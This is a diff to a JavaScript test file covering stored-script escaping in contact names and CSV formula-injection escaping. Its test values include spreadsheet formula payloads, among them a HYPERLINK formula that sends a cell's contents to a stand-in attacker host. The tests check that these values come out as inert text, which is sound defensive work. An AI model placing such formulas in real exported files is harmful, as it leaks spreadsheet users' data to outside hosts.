@@ -32,7 +32,10 @@ describe('stored script in contact names shown in admin and mail', () => {
   };
 
   it.each(SCRIPTS)('in the list of contacts it is text: %s', async (name) => {
-    const contact = contactOf({ fullName: name, firstName: name, company: name, jobTitle: name });
+    const contact = {
+      ...contactOf({ fullName: name, firstName: name, company: name, jobTitle: name }),
+      portalAccess: [],
+    };
     server
       .on('GET /contacts', { body: { data: [contact], meta: { nextCursor: null } } })
       .on('GET /portals', { body: { data: [customers], meta: { nextCursor: null } } });
@@ -72,15 +75,23 @@ describe('stored script in contact names shown in admin and mail', () => {
 });
 
 describe('CSV formulas', () => {
-  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("https://evil.example.net?"&A1,"x")'])(
-    'what a spreadsheet would run is text in the file: %j',
-    (value) => {
-      expect(toCsv([[value]])).toBe(`"'${value.replaceAll('"', '""')}"\r\n`);
-    }
-  );
+  it.each([
+    '=1+1',
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '\t=1',
+    '\r=1',
+    '\n=1',
+    '=1\n+2',
+    '＝1+1',
+    '=HYPERLINK("https://evil.example.net?"&A1,"x")',
+  ])('what a spreadsheet would run is text in the file: %j', (value) => {
+    expect(toCsv([[value]])).toBe(`"'${value.replaceAll('"', '""')}"`);
+  });
 
   it('a cell does not end before its end', () => {
-    expect(toCsv([['a","=1+1', 'b\r\n=1+1']])).toBe('"a"",""=1+1","b\r\n=1+1"\r\n');
+    expect(toCsv([['a","=1+1', 'b\r\n=1+1']])).toBe('"a"",""=1+1","b\r\n=1+1"');
   });
 });
 
